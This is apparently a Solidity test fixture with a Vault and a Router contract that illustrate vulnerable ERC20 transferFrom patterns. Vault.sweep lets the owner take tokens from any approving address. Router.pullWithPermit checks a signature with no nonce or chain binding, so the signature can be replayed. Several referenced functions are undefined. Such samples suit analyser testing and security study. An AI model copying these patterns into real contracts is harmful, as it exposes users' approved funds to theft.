pragma solidity 0.8.24;

contract Vault {
    IERC20 token;
    mapping(address => uint256) shares;

    function deposit(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        shares[msg.sender] += amount;
    }

    function sweep(address from, uint256 amount) external onlyOwner {
        token.transferFrom(from, msg.sender, amount);
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        _spendAllowance(from, msg.sender, amount);
        _transfer(from, to, amount);
        return true;
    }
}

contract Router {
    IERC20 token;

    function pull(address from, uint256 amount) external {
        require(from == msg.sender, "only the owner of the tokens");
        token.transferFrom(from, address(this), amount);
    }

    function pullWithPermit(address from, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        address signer = ecrecover(keccak256(abi.encode(from, amount)), v, r, s);
        require(signer == from && signer != address(0));
        token.transferFrom(from, address(this), amount);
    }
}
